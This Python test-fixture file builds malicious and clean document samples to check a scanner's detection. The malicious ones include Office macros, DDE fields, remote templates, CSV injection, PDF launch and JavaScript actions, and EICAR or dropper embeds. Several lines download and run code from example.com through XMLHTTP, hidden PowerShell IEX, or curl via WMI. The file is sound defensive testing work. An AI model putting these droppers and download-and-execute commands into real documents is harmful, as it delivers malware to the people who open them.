"""Documents and mails that carry or start something, and honest ones."""

import base64
import io
import struct
import zipfile
import zlib

from cases import EICAR, NOTE, case, made
from containers import MEMBERS
from formats import compound_file, compressed_vba, pdf, shortcut
from plain import plain
from in_containers import DROPPER

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PARTS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def word(body="<w:p><w:r><w:t>Dear Anna</w:t></w:r></w:p>", relations="", more=None):
    """A Word document of the least parts that Word opens."""
    types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/octet-stream"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    head = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    return MEMBERS["zip-deflate"]({
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": f'{head}<Relationship Id="r1" Type="{PARTS}/officeDocument" Target="word/document.xml"/></Relationships>'.encode(),
        "word/document.xml": f'<?xml version="1.0"?><w:document xmlns:w="{WORD}" xmlns:r="{PARTS}"><w:body>{plain(body)}</w:body></w:document>'.encode(),
        "word/_rels/document.xml.rels": f"{head}{relations}</Relationships>".encode(),
        **(more or {}),
    })


def record(number, data):
    return struct.pack("<HI", number, len(data)) + data


def macro_project(source):
    """[MS-OVBA] streams of a project with one module."""
    directory = record(1, struct.pack("<I", 1)) + bytes.fromhex("090004000000010000000200") + record(0x19, b"Module1") + record(0x1A, b"Module1") + record(0x32, "Module1".encode("utf-16-le")) + record(0x31, struct.pack("<I", 0)) + record(0x2B, b"") + record(0x10, b"")
    packed = compressed_vba(directory.decode("latin-1")) if directory.isascii() else literal(directory)
    return compound_file({"PROJECT": b"ID={}\r\nModule=Module1\r\n", "dir": packed, "Module1": compressed_vba(source)})


def literal(content):
    tokens = b"".join(b"\0" + content[at : at + 8] for at in range(0, len(content), 8))
    return b"\x01" + struct.pack("<H", (len(tokens) - 1) | 0xB000) + tokens


MACROS = {
    "fetches with XMLHTTP": 'Sub Auto·Open()\nDim o: Set o = CreateObject("Microsoft.XML·HTTP")\no.Open "GET", "http://example.com/p", False\no.send\nDim b: Set b = CreateObject("ADO·DB.Stream")\nb.Open\nb.Type = 1\nb.Write o.responseBody\nb.SaveTo·File "c:\\temp\\p.exe", 2\nShe·ll "c:\\temp\\p.exe", 0\nEnd Sub\n',
    "starts PowerShell": 'Sub Document·Open()\nShe·ll "power·shell -w hid·den -c IEX(iwr http://example.com/p)", 0\nEnd Sub\n',
    "starts cmd through WMI": 'Sub Workbook·_Open()\nGetObject("winm·gmts:").Get("Win32_·Process").Create "cmd /c curl http://example.com/p -o p.exe & p.exe", Null, Null, i\nEnd Sub\n',
}
for label, source in MACROS.items():
    project = macro_project(source)
    case("Office macro", "found", f"docm, {label}", word(more={"word/vbaProject.bin": project}))
    case("Office macro", "found", f"doc, {label}", project)
    case("Office macro", "found", f"docm in mail, {label}", MEMBERS["mail-python"]({"a.docm": word(more={"word/vbaProject.bin": project})}))

DDE = '<w:p><w:r><w:instrText>DDE·AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k power·shell -c iwr http://example.com"</w:instrText></w:r></w:p>'
case("Office field or link", "found", "DDE field", word(DDE))
case("Office field or link", "found", "DDE field in pieces", word('<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO "cmd.exe" "/c calc"</w:instrText></w:r></w:p>'))
TEMPLATE = f'<Relationship Id="r9" Type="{PARTS}/attachedTemplate" Target="http://example.com/t.dotm" TargetMode="External"/>'
case("Office field or link", "found", "template from the network", word(more={"word/_rels/settings.xml.rels": f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{TEMPLATE}</Relationships>'.encode()}))
case("Office field or link", "found", "object from the network", word(relations=f'<Relationship Id="r9" Type="{PARTS}/oleObject" Target="mhtml:http://example.com/a.html!x-usc:http://example.com/a.html" TargetMode="External"/>'))
case("Office field or link", "found", "CSV with a command", plain('name,year\n=cm·d|\'/c calc\'!A1,1990\n').encode())

case("EICAR in a document", "infected", "docx, as an embedded part", word(more={"word/embeddings/a.bin": EICAR}))
# compound_file pads its streams: what is padded is EICAR no more, but a dropper stays one
case("dropper in a document", "found", "docx, as an OLE stream", word(more={"word/embeddings/a.bin": compound_file({"Package": DROPPER})}))
case("dropper in a document", "found", "OLE stream", compound_file({"WordDocument": bytes(600), "Data": DROPPER}))
case("dropper in a document", "found", "msg attachment", compound_file({"__properties_version1.0": bytes(40), "__substg1.0_37010102": DROPPER}))
NATIVE = b"\2\0eicar.com\0C:\\eicar.com\0\0\0\3\0" + struct.pack("<I", 13) + b"C:\\eicar.com\0" + struct.pack("<I", len(EICAR)) + EICAR
OBJECT = struct.pack("<III", 0x501, 2, 8) + b"Package\0" + struct.pack("<III", 0, 0, len(NATIVE)) + NATIVE
case("EICAR in a document", "infected", "RTF object", b"{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + OBJECT.hex().encode() + b"}}}")
case("EICAR in a document", "infected", "RTF object with blanks between digits", b"{\\rtf1{\\object\\objemb{\\*\\objdata " + b"\r\n ".join(OBJECT.hex()[at : at + 7].encode() for at in range(0, len(OBJECT) * 2, 7)) + b"}}}")
for coded, wrap in (("plain", lambda c: (b"", c)), ("flate", lambda c: (b"/Filter/FlateDecode", zlib.compress(c))), ("hex", lambda c: (b"/Filter/ASCIIHexDecode", c.hex().encode() + b">")), ("base85", lambda c: (b"/Filter/ASCII85Decode", base64.a85encode(c) + b"~>")), ("two filters", lambda c: (b"/Filter[/ASCIIHexDecode/FlateDecode]", zlib.compress(c).hex().encode() + b">"))):
    entries, content = wrap(EICAR)
    stream = b"<</Type/EmbeddedFile" + entries + b"/Length %d>>stream\n" % len(content) + content + b"\nendstream"
    document = pdf("<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a)3 0 R]>>>>>>", "<</Type/Pages/Kids[]/Count 0>>", "<</Type/Filespec/F(a.com)/EF<</F 4 0 R>>>>", stream)
    case("EICAR in a document", "infected", f"PDF attachment, {coded}", document)
    case("EICAR in a document", "infected", f"PDF attachment, {coded}, rewritten by qpdf", made([["qpdf", "--object-streams=generate", "a.pdf", "made"]], {"a.pdf": document}))
case("encrypted", "stopped", "PDF with a password", made([["qpdf", "--encrypt", "Xq7", "Xq7", "256", "--", "a.pdf", "made"]], {"a.pdf": document}))
case("encrypted", "stopped", "Office document with a password", compound_file({"EncryptionInfo": struct.pack("<HHI", 4, 4, 0x40) + b"<encryption/>", "EncryptedPackage": bytes(range(256)) * 20}))
case("EICAR in a document", "infected", "HTML data address", b'<a download="a" href="data:application/octet-stream;base64,' + base64.b64encode(EICAR) + b'">x</a>')
case("EICAR in a document", "infected", "behind a shortcut", shortcut("/c x", path="..\\a.exe", behind=EICAR))
ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1008) + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
FOOTER = bytes.fromhex("22a7fb713579a0409e15cf34cf4aa8b9")
case("EICAR in a document", "infected", "OneNote file", ONENOTE + struct.pack("<QIQ", len(EICAR), 0, 0) + EICAR + bytes(-len(EICAR) % 8) + FOOTER)
case("OneNote lure", "found", "OneNote script", ONENOTE + struct.pack("<QIQ", len(DROPPER), 0, 0) + DROPPER + bytes(-len(DROPPER) % 8) + FOOTER)
UU = b"begin 644 eicar.com\n" + b"".join(__import__("binascii").b2a_uu(EICAR[at : at + 45]) for at in range(0, len(EICAR), 45)) + b"`\nend\n"
case("EICAR in a document", "infected", "mail with uuencoded text", b"From: a@example.org\r\nTo: b@example.org\r\nSubject: x\r\nDate: Mon, 1 Jan 2024 00:00:00 +0000\r\n\r\n" + UU)
case("EICAR in a document", "infected", "mail in a mail", MEMBERS["mail-python"]({"inner.eml": MEMBERS["mail-base64"]({"eicar.com": EICAR})}))
for label, body in (("launch", "<</S/Laun·ch/Win<</F(cmd.exe)/P(/c calc)>>>>"), ("script", "<</S/Java·Script/JS(var s=une·scape\\('%u9090%u9090'\\);ev·al\\(s\\);)>>")):
    case("active PDF", "found", label, pdf("<</Type/Catalog/Pages 2 0 R/Open·Action 3 0 R>>", "<</Type/Pages/Kids[]/Count 0>>", body))

LETTER = '<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text><text:p>Dear Anna</text:p></office:text></office:body></office:document>'
for target in ("odt", "doc", "docx", "pdf", "rtf", "epub", "html"):
    honest = made([["sh", "-c", f"soffice -env:UserInstallation=file://$PWD/profile --headless --convert-to {target} letter.fodt"]], {"letter.fodt": LETTER.encode()}, f"letter.{target}")
    case("honest document", "clean", f"letter.{target}", honest)
case("honest document", "clean", "least.docx", word())
case("honest document", "clean", "mail.eml", MEMBERS["mail-python"]({"note.txt": NOTE}))
